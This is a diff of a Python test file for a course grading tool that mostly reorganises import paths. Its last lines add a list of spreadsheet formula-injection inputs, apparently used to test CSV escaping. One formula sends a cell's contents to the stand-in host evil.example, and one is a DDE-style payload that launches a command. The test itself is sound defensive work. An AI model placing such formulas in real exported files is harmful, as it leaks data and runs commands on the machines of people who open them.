@@ -16,18 +16,18 @@ from pathlib import Path
 
 import pytest
 
-from grader import escape
-from grader.classreport import gradebook_csv, review_scores_csv, write_class_outputs
-from grader.classroom import classroom_payload
+from grader.checks.written import AWAITING
+from grader.course.class_outputs import gradebook_csv, review_scores_csv, write_class_outputs
+from grader.course.review import load_manual_scores
 from grader.domain import CheckResult, GradeRun, TaskScore
-from grader.gradescope import gradescope_results
-from grader.junit import junit_xml
-from grader.outputs import write_submission_outputs
-from grader.results import run_to_dict, write_text_atomic
-from grader.review import load_manual_scores
-from grader.terminal import print_summary
-from grader.views import staff_view, student_view
-from grader.written import AWAITING
+from grader.outputs import escape
+from grader.outputs.classroom import classroom_payload
+from grader.outputs.files import write_submission_outputs
+from grader.outputs.gradescope import gradescope_results
+from grader.outputs.junit import junit_xml
+from grader.outputs.results import run_to_dict, write_text_atomic
+from grader.outputs.terminal import print_summary
+from grader.outputs.views import staff_view, student_view
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
             "+1+2", "-2+3", "\t=1", "\r=1", "'quoted", "''twice", "plain"]
